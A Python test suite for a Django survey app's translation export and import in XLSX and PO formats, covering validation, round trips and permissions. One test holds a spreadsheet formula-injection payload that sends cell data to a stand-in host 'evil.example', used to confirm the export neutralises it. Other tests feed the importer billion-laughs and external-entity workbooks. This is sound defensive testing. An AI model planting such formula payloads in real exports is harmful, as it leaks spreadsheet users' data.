"""Translation files: XLSX and PO export, the strict PO reader, and imports that are checked per
row and applied all or nothing."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from samverka.audit.models import AuditAction, AuditEvent
from samverka.lib.languages import LANGUAGE_CODES
from samverka.surveys.instruments import texts, translation_files
from samverka.surveys.instruments.models import TranslationStatus
from samverka.surveys.instruments.services import editing, translations
from samverka.surveys.instruments.services.versions import version_draft, version_publish
from samverka.surveys.tests.factories import make_version

SOMALI = {
    "version.title": "Sidee tahay?",
    "item.T-NET-01.text": "Saaxiibo ayaan halkan ku leeyahay.",
    "option.T-NET-01.5": "Gebi ahaanba waa run",
}


def url(name, version, world, **kwargs):
    return reverse(
        f"surveys:{name}",
        kwargs={"code": world.kalmar.code, "version_code": version.code, **kwargs},
    )


@pytest.fixture
def own(world):
    return make_version(collaboration=world.kalmar, published=False, name="Kalmars enkät")


def workbook_bytes(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def upload(client, version, world, name, content, **extra):
    return client.post(
        url("translations_import", version, world),
        {"file": SimpleUploadedFile(name, content), **extra},
    )


def confirm(client, version, world, response):
    return client.post(
        url("translations_import", version, world), {"confirm": response.context["token"]}
    )


def snapshot(version):
    version.refresh_from_db()
    return {unit.key: dict(unit.texts) for unit in texts.text_units(version)}


# ------------------------------------------------------------------------------------ XLSX


def test_xlsx_export_has_every_text_and_language(world, login_as, own):
    response = login_as(world.kalmar_ngo).get(url("translations_export", own, world))
    assert response.status_code == 200
    assert response["Content-Type"] == translation_files.XLSX_TYPE
    assert "kalmars-enk-t-v1-translations.xlsx" in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["texts", "status", "about"]
    rows = list(workbook["texts"].iter_rows(values_only=True))
    assert list(rows[0]) == ["key", "context", "sv", *[c for c in LANGUAGE_CODES if c != "sv"]]
    by_key = {row[0]: row for row in rows[1:]}
    required = [u.key for u in texts.text_units(own) if u.required]
    assert set(by_key) == set(required)
    header = rows[0]
    assert by_key["item.T-NET-01.text"][header.index("ar")] == "لدي أصدقاء هنا."
    assert by_key["item.T-NET-01.text"][header.index("so")] is None
    statuses = {row[0]: row for row in workbook["status"].iter_rows(min_row=2, values_only=True)}
    assert statuses["en"][2] == "reviewed"
    assert statuses["so"][2] == "missing"
    assert statuses["so"][3] == len(required)
    about = dict(workbook["about"].iter_rows(values_only=True))
    assert about["version_code"] == own.code
    assert AuditEvent.objects.filter(action=AuditAction.EXPORT, object_code=own.code).exists()


def test_xlsx_export_import_round_trip(world, login_as, own):
    client = login_as(world.kalmar_ngo)
    exported = client.get(url("translations_export", own, world)).content
    workbook = load_workbook(io.BytesIO(exported))
    sheet = workbook["texts"]
    header = [cell.value for cell in sheet[1]]
    so, ar = header.index("so") + 1, header.index("ar") + 1
    for row in sheet.iter_rows(min_row=2):
        key = row[0].value
        if key in SOMALI:
            sheet.cell(row=row[0].row, column=so, value=SOMALI[key])
        if key == "item.T-NET-02.text":
            sheet.cell(row=row[0].row, column=ar, value="أنا سعيد جداً.")
    before = snapshot(own)

    preview = upload(client, own, world, "oversattning.xlsx", workbook_bytes(workbook))
    assert preview.status_code == 200
    plan = preview.context["plan"]
    assert plan.ok
    assert len(plan.changes) == 4
    assert snapshot(own) == before  # the preview changes nothing

    done = confirm(client, own, world, preview)
    assert done.status_code == 302
    after = snapshot(own)
    for key, text in SOMALI.items():
        assert after[key]["so"] == text
    assert after["item.T-NET-02.text"]["ar"] == "أنا سعيد جداً."
    assert after["item.T-NET-01.text"]["ar"] == before["item.T-NET-01.text"]["ar"]
    own.refresh_from_db()
    assert own.language_status["ar"] == TranslationStatus.DRAFT
    event = AuditEvent.objects.filter(object_code=own.code, action=AuditAction.UPDATE).first()
    assert event.fields == ["language_status", "texts.ar", "texts.so"] or set(event.fields) >= {
        "texts.ar",
        "texts.so",
    }
    assert event.detail == "xlsx import: 4 texts"
    # A second confirmation of the same file does nothing more.
    again = client.post(url("translations_import", own, world), {"confirm": "stale"})
    assert again.status_code == 302


def translation_sheet(rows, header=None):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "texts"
    sheet.append(header or ["key", "context", "sv", "so"])
    for row in rows:
        sheet.append(row)
    return workbook


def test_an_import_with_errors_reports_every_row_and_changes_nothing(world, login_as, own):
    client = login_as(world.kalmar_ngo)
    workbook = translation_sheet(
        [
            ["item.T-NET-01.text", "", "", "Saaxiibo ayaan leeyahay.", "ok"],
            ["item.NOPE.text", "", "", "Waa khalad", ""],
            ["", "", "", "Fure la'aan", ""],
            ["item.T-NET-02.text", "", "", "x" * 1001, ""],
            ["item.T-NET-01.text", "", "", "Mar labaad", ""],
            ["item.T-NET-01.help", "", "", "Caawimaad", ""],
        ],
        header=["key", "context", "sv", "so", "de"],
    )
    before = snapshot(own)
    preview = upload(client, own, world, "fel.xlsx", workbook_bytes(workbook))
    assert preview.status_code == 200
    plan = preview.context["plan"]
    assert not plan.ok
    body = preview.content.decode()
    assert "Kolumnen ”de” är inte ett enkätspråk" in body
    assert "Det finns ingen text med den här nyckeln" in body
    assert "Nyckeln är tom." in body
    assert "längre än 1000 tecken" in body
    assert "Nyckeln förekommer två gånger (även på Rad 2)" in body
    assert "Det finns ingen svensk text för den här nyckeln" in body
    wheres = {where for where, _key, _message in plan.errors}
    assert {"Rad 1", "Rad 3", "Rad 4", "Rad 5", "Rad 6", "Rad 7"} <= wheres
    assert 'name="confirm"' not in body
    # Even a forged confirmation refuses: the plan is checked again.
    forged = client.post(
        url("translations_import", own, world), {"confirm": preview.context["token"]}
    )
    assert forged.status_code == 200
    assert snapshot(own) == before


def test_an_import_is_checked_again_when_confirmed(world, login_as, own):
    client = login_as(world.kalmar_ngo)
    workbook = translation_sheet([["item.T-ABT-03.text", "", "", "Wax kale?"]])
    preview = upload(client, own, world, "a.xlsx", workbook_bytes(workbook))
    assert preview.context["plan"].ok
    editing.item_delete(item=own.items.get(item_id="T-ABT-03"), by=None)
    response = confirm(client, own, world, preview)
    assert response.status_code == 200
    assert not response.context["plan"].ok


def test_formula_like_texts_are_neutralised_in_the_xlsx_and_come_back_unchanged(
    world, login_as, own
):
    """A question that begins with "=" is text in the workbook (an apostrophe before it, never
    a formula), and importing the file back changes nothing: the reader takes the mark off."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"klicka")'
    translations.texts_apply(
        version=own,
        by=world.kalmar_ngo,
        changes=[("item.T-NET-01.text", "sv", formula), ("item.T-NET-01.text", "so", "-1 dhib")],
    )
    client = login_as(world.kalmar_ngo)
    exported = client.get(url("translations_export", own, world)).content
    sheet = load_workbook(io.BytesIO(exported))["texts"]
    header = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "item.T-NET-01.text")
    cell = row[header.index("sv")]
    assert (cell.value, cell.data_type) == ("'" + formula, "s")
    assert row[header.index("so")].value == "'-1 dhib"

    before = snapshot(own)
    preview = upload(client, own, world, "oversattning.xlsx", exported)
    assert preview.context["plan"].ok
    assert preview.context["plan"].changes == []
    confirm(client, own, world, preview)
    assert snapshot(own) == before
    assert before["item.T-NET-01.text"]["sv"] == formula


def test_an_xlsx_can_be_imported_for_one_language_only(world, login_as, own):
    client = login_as(world.kalmar_ngo)
    workbook = translation_sheet(
        [["item.T-NET-01.text", "", "Ändrad källa", "Saaxiibo."]],
        header=["key", "context", "sv", "so"],
    )
    preview = upload(client, own, world, "a.xlsx", workbook_bytes(workbook), language="so")
    assert [(c.key, c.language) for c in preview.context["plan"].changes] == [
        ("item.T-NET-01.text", "so")
    ]
    confirm(client, own, world, preview)
    item = own.items.get(item_id="T-NET-01")
    assert item.text["sv"] == "Jag har vänner här."
    assert item.text["so"] == "Saaxiibo."


def test_the_status_sheet_sets_a_status_when_nothing_is_missing(world, login_as, own):
    client = login_as(world.kalmar_ngo)
    workbook = load_workbook(io.BytesIO(client.get(url("translations_export", own, world)).content))
    status = workbook["status"]
    for row in status.iter_rows(min_row=2):
        if row[0].value == "ar":
            row[4].value = "back_translated"
        if row[0].value == "so":
            row[4].value = "reviewed"
    preview = upload(client, own, world, "status.xlsx", workbook_bytes(workbook))
    plan = preview.context["plan"]
    assert not plan.ok
    assert "Somaliska kan inte markeras som granskad" in preview.content.decode()
    for row in status.iter_rows(min_row=2):
        if row[0].value == "so":
            row[4].value = None
    preview = upload(client, own, world, "status.xlsx", workbook_bytes(workbook))
    assert preview.context["plan"].statuses == {"ar": "back_translated"}
    confirm(client, own, world, preview)
    own.refresh_from_db()
    assert own.language_status["ar"] == "back_translated"


def test_a_file_from_another_instrument_is_refused(world, login_as, own):
    other = make_version(collaboration=world.kalmar, published=False, name="Annan")
    client = login_as(world.kalmar_ngo)
    exported = client.get(url("translations_export", other, world)).content
    preview = upload(client, own, world, "annan.xlsx", exported)
    assert not preview.context["plan"].ok
    assert "ett annat enkätformulär" in preview.content.decode()


def test_a_file_from_an_earlier_version_is_matched_by_keys(world, login_as):
    first = make_version(collaboration=world.kalmar)
    draft = version_draft(version=first, by=None)
    client = login_as(world.kalmar_ngo)
    exported = client.get(url("translations_export_po", first, world, lang="so")).content.decode()
    exported = exported.replace(
        'msgctxt "version.title"\nmsgid "Hur har du det?"\nmsgstr ""',
        'msgctxt "version.title"\nmsgid "Hur har du det?"\nmsgstr "Sidee tahay?"',
    )
    preview = upload(client, draft, world, "so.po", exported.encode())
    plan = preview.context["plan"]
    assert plan.ok
    assert "exporterad från version 1" in preview.content.decode()
    confirm(client, draft, world, preview)
    draft.refresh_from_db()
    assert draft.title["so"] == "Sidee tahay?"
    assert "so" not in first.title


def test_an_unreadable_file_is_refused_at_once(world, login_as, own):
    client = login_as(world.kalmar_ngo)
    response = upload(client, own, world, "a.xlsx", b"PK not really a zip")
    assert response.status_code == 200
    assert "kunde inte läsas som en Excel-arbetsbok" in response.content.decode()
    response = upload(client, own, world, "a.csv", b"key;so\n")
    assert "Ladda upp en Excel-arbetsbok (.xlsx) eller en PO-fil (.po)." in (
        response.content.decode()
    )


def test_imports_are_for_managers_and_drafts_only(world, login_as, own):
    assert (
        login_as(world.kalmar_ledare).get(url("translations_import", own, world)).status_code == 403
    )
    version_publish(version=own, by=None)
    client = login_as(world.kalmar_ngo)
    assert client.get(url("translations_import", own, world)).status_code == 302


# -------------------------------------------------------------------------------------- PO


def test_po_export_has_the_key_as_context_and_the_swedish_text_as_msgid(world, login_as, own):
    response = login_as(world.kalmar_ngo).get(url("translations_export_po", own, world, lang="ar"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/x-gettext-translation")
    text = response.content.decode()
    assert '"Language: ar\\n"' in text
    assert f'"X-Samverka-Version: {own.code}\\n"' in text
    assert (
        'msgctxt "item.T-NET-01.text"\nmsgid "Jag har vänner här."\nmsgstr "لدي أصدقاء هنا."'
        in (text)
    )
    assert (
        login_as(world.kalmar_ngo)
        .get(url("translations_export_po", own, world, lang="sv"))
        .status_code
        == 404
    )


def test_po_export_import_round_trip(world, login_as, own):
    client = login_as(world.kalmar_ngo)
    exported = client.get(url("translations_export_po", own, world, lang="so")).content.decode()
    parsed = translation_files.parse_po(exported.encode())
    assert parsed.language == "so"
    assert {row.key for row in parsed.rows} == {u.key for u in texts.text_units(own) if u.required}
    for key, value in SOMALI.items():
        exported = exported.replace(
            f'msgctxt "{key}"\nmsgid "{own_source(own, key)}"\nmsgstr ""',
            f'msgctxt "{key}"\nmsgid "{own_source(own, key)}"\nmsgstr "{value}"',
        )
    exported = exported.replace('"X-Samverka-Status: \\n"', '"X-Samverka-Status: draft\\n"')
    preview = upload(client, own, world, "so.po", exported.encode(), language="so")
    plan = preview.context["plan"]
    assert plan.ok, plan.errors
    assert len(plan.changes) == len(SOMALI)
    confirm(client, own, world, preview)
    after = snapshot(own)
    for key, value in SOMALI.items():
        assert after[key]["so"] == value


def own_source(version, key):
    return next(u.get("sv") for u in texts.text_units(version) if u.key == key)


def test_po_writer_and_reader_agree_on_quotes_line_breaks_and_tabs(world, own):
    tricky = 'Säg "hej"\noch vänta\t– sedan \\ klart.'
    translations.texts_apply(version=own, by=None, changes=[("version.intro", "sv", tricky)])
    translations.texts_apply(
        version=own, by=None, changes=[("version.intro", "uk", tricky + " (uk)")]
    )
    own.refresh_from_db()
    text = translation_files.export_po(own, "uk")
    assert 'msgid ""\n"Säg \\"hej\\"\\n"\n"och vänta\\t– sedan \\\\ klart."' in text
    parsed = translation_files.parse_po(text.encode())
    row = next(r for r in parsed.rows if r.key == "version.intro")
    assert row.source == tricky
    assert row.texts == {"uk": tricky + " (uk)"}


def test_po_reader_skips_fuzzy_entries_and_obsolete_ones(db):
    text = (
        'msgid ""\nmsgstr ""\n"Language: so\\n"\n\n'
        '#, fuzzy\nmsgctxt "version.title"\nmsgid "Hur har du det?"\nmsgstr "Ma hubo"\n\n'
        '#~ msgctxt "old"\n#~ msgid "Gammal"\n#~ msgstr "Duug"\n\n'
        'msgctxt "version.intro"\nmsgid "Några frågor om dig."\nmsgstr "Su\'aalo"\n'
    )
    parsed = translation_files.parse_po(text.encode())
    assert [(r.key, r.texts) for r in parsed.rows] == [("version.intro", {"so": "Su'aalo"})]


@pytest.mark.parametrize(
    "text, message",
    [
        ('msgid ""\nmsgstr ""\n"Language: so\\n"\n\nmsgctxt "a"\nmsgid "b\nmsgstr "c"\n', "Rad 6"),
        ('msgid ""\nmsgstr ""\n"Language: so\\n"\n\nmsgctxt "a"\nmsgid "b"\n', "både msgid"),
        ('msgid ""\nmsgstr ""\n"Language: so\\n"\n\nhello\n', "Rad 5"),
        ('msgid ""\nmsgstr ""\n"Language: so\\n"\n\nmsgid "a\\q"\nmsgstr ""\n', "escape"),
        ('msgctxt "a"\nmsgid "b"\nmsgstr "c"\n', "saknar huvud"),
        ('msgid ""\nmsgstr ""\n"Project-Id-Version: x\\n"\n', "anger inte sitt språk"),
        ('msgid ""\nmsgstr ""\n"Language: de\\n"\n', "”de”"),
        ('msgid ""\nmsgstr ""\n"Language: sv\\n"\n', "”sv”"),
    ],
)
def test_po_reader_is_strict(db, settings, text, message):
    settings.LANGUAGE_CODE = "sv"
    from django.utils import translation

    with translation.override("sv"), pytest.raises(translation_files.TranslationFileError) as error:
        translation_files.parse_po(text.encode())
    assert message in error.value.message


def test_a_po_file_for_another_language_than_chosen_is_refused(world, login_as, own):
    client = login_as(world.kalmar_ngo)
    exported = client.get(url("translations_export_po", own, world, lang="ar")).content
    before = snapshot(own)
    preview = upload(client, own, world, "ar.po", exported, language="so")
    assert not preview.context["plan"].ok
    assert "Filen gäller Arabiska, men du valde Somaliska." in preview.content.decode()
    assert snapshot(own) == before


def test_po_entries_with_unknown_keys_or_plurals_are_row_errors(world, login_as, own):
    client = login_as(world.kalmar_ngo)
    text = (
        'msgid ""\nmsgstr ""\n"Language: so\\n"\n\n'
        'msgctxt "item.NOPE.text"\nmsgid "x"\nmsgstr "y"\n\n'
        'msgctxt "version.title"\nmsgid "x"\nmsgid_plural "xs"\nmsgstr[0] "y"\nmsgstr[1] "ys"\n'
    )
    preview = upload(client, own, world, "so.po", text.encode())
    body = preview.content.decode()
    assert "Rad 5" in body and "Rad 9" in body
    assert "Pluralformer används inte" in body
    assert 'name="confirm"' not in body


@pytest.mark.parametrize(
    "make", ["broken_sheet", "billion_laughs", "external_entity", "huge_dimension"]
)
def test_a_hostile_translations_workbook_gets_a_message_and_changes_nothing(
    world, login_as, own, make
):
    """The translations import reads with the same safe reader as every import."""
    from samverka.lib.tests import hostile_files

    rows = [["key", "so"], ["item.T-NET-01.text", "Saaxiibo"]]
    if make == "huge_dimension":
        data = hostile_files.huge_dimension(*rows[:1], rows[1:])
    else:
        data = getattr(hostile_files, make)(rows)
    client = login_as(world.kalmar_ngo)
    before = snapshot(own)
    response = upload(client, own, world, "oversattning.xlsx", data)
    assert response.status_code == 200
    if make == "huge_dimension":  # read as the small file it is
        assert [c.new for c in response.context["plan"].changes] == ["Saaxiibo"]
    else:
        assert response.context["form"].errors
    assert snapshot(own) == before
